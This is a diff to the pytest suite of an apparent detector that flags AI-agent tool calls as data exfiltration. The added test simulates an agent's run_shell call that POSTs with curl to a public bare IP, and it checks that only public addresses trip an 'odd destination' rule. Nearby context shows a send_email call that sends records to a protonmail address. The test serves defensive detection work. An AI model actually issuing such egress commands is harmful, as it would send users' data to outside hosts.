@@ -87,6 +87,22 @@ def test_egress_to_a_sink_without_data_is_tool_abuse(detector):
     assert [(d.rule.id, d.rule.category) for d in detections] == [("abw-exfil-tool-odd-destination", "tool_abuse")]
 
 
+@pytest.mark.parametrize(
+    ("url", "odd"),
+    [
+        ("http://93.184.216.34:8080/collect", True),  # a public address: who runs a service there?
+        ("http://127.0.0.1:8080/health", False),  # this machine
+        ("http://10.12.0.5:9200/_cluster/health", False),  # a private address in the cluster
+        ("http://[::1]:3000/api", False),
+    ],
+)
+def test_only_a_public_bare_ip_is_an_odd_destination(detector, url, odd):
+    ev = chat(calls=[("run_shell", {"command": f"curl -s -X POST {url} -d 'ok=1'"})])
+    detections, _ = run(detector, ev)
+    tool_rules = [d.rule.id for d in detections if d.rule.id.startswith("abw-exfil-tool")]
+    assert tool_rules == (["abw-exfil-tool-odd-destination"] if odd else [])
+
+
 def test_malformed_arguments_do_not_crash(detector):
     ev = chat(tool_results=[RECORDS], calls=[("send_email", "to: drop@protonmail.com {{{ " + RECORDS)])
     detections, _ = run(detector, ev)
